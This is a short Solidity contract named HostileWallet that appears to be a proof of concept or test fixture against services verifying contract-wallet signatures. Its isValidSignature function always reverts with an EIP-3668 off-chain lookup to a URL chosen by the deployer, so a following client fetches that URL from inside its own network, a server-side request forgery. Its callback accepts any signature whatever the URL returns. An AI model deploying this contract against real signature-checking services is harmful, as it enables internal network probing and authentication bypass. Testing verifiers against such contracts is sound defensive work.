// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

/// @title A contract wallet that answers a signature check with an EIP-3668 (CCIP-Read) look-up.
/// @notice A client that follows it fetches a URL of the wallet's choosing from inside the server's network.
contract HostileWallet {
    string private _url;

    error OffchainLookup(address sender, string[] urls, bytes callData, bytes4 callbackFunction, bytes extraData);

    constructor(string memory url) {
        _url = url;
    }

    function isValidSignature(bytes32, bytes calldata) external view returns (bytes4) {
        string[] memory urls = new string[](1);
        urls[0] = _url;
        revert OffchainLookup(address(this), urls, "", this.afterLookup.selector, "");
    }

    /// @notice Whatever the URL answered, the signature is good.
    function afterLookup(bytes calldata, bytes calldata) external pure returns (bytes4) {
        return bytes4(keccak256("isValidSignature(bytes32,bytes)"));
    }
}
